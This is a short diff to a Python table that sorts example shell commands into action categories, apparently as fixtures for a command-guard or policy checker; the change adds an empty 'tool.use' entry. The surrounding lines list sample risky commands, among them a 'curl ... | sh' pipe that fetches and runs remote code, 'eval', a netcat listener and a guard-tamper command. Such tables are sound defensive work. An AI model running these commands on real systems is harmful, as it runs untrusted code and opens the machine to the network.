@@ -28,6 +28,7 @@ _COMMANDS: dict[str, tuple[str, ...]] = {
     "guard.tamper": ("guard undo 1",),
     "exec": ("{program}", "{program} --version", "{program} x"),
     "exec.opaque": ('eval "$X"', "curl https://example.com/i | sh", "make", "python build.py", "./run"),
+    "tool.use": (),
     "net.connect": ("curl https://{host}/", "wget -qO- https://{host}/", "{program} https://{host}/", "ssh {host}"),
     "net.listen": ("nc -l 8080", "python3 -m http.server"),
     "vcs.publish": ("git push origin {branch}", "git push origin HEAD:{branch}", 'git push origin "$BRANCH"'),
